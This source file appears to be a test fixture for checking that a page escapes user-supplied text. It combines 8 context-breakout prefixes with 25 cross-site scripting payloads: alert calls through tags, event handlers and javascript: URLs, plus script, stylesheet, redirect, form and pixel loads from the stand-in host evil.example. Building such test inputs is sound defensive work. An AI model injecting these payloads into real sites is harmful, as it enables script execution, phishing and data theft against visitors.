/** Texts that a page could interpret as code: ways to escape from the context of a text, each combined with possible consequences. */

/** Escapes from an element, an attribute, a comment, a script, a style, a title. */
const WAYS_OUT = ['', '">', "'>", '</title>', '</textarea>', '--></script>', '</style>', '`${'];

/** Each calls alert, asks another server for something, or rebuilds the page. */
const CONSEQUENCES = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mi//xlink:href="javascript:alert(1)">x',
  '<body onpageshow=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src=//evil.example/x.swf>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import"//evil.example/x.css";</style>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><button>pay</button></form>',
  '<a href="javascript:alert(1)" autofocus>terms</a>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<img src=//evil.example/pixel.gif>',
  '{{constructor.constructor("alert(1)")()}}',
  '&lt;img src=x onerror=alert(1)&gt; &#x3c;b&#62;',
  'javascript:alert(1)//%0aalert(1)',
];

/** Two hundred texts, none longer than the maximum of a company name. */
export const HOSTILE_TEXTS = CONSEQUENCES.flatMap((consequence) => WAYS_OUT.map((way) => way + consequence));
